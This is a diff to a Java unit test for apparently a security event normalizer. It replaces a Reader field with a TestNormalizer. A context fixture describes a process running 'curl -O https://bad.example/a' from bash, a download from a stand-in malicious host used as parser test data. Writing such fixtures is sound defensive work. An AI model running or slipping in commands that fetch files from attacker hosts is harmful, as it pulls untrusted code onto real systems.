@@ -5,8 +5,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 import io.clicktrail.event.Event;
 import io.clicktrail.event.EventKind;
 import io.clicktrail.event.EventOutcome;
-import io.clicktrail.normalizer.Reader;
 import io.clicktrail.normalizer.event.EventJson;
+import io.clicktrail.normalizer.parse.TestNormalizer;
 import io.clicktrail.normalizer.raw.Reason;
 import io.clicktrail.normalizer.zeek.ZeekFixtures;
 import org.junit.jupiter.api.Test;
@@ -18,7 +18,7 @@ class EcsDocumentJsonTest {
     private static final String PROCESS =
             "\"process\":{\"pid\":77,\"entity_id\":\"e-77\",\"executable\":\"/usr/bin/curl\",\"command_line\":\"curl -O https://bad.example/a\",\"parent\":{\"pid\":7,\"executable\":\"/bin/bash\"}}";
 
-    private final Reader reader = new Reader();
+    private final TestNormalizer reader = new TestNormalizer();
 
     @Test
     void readsAProcess() {
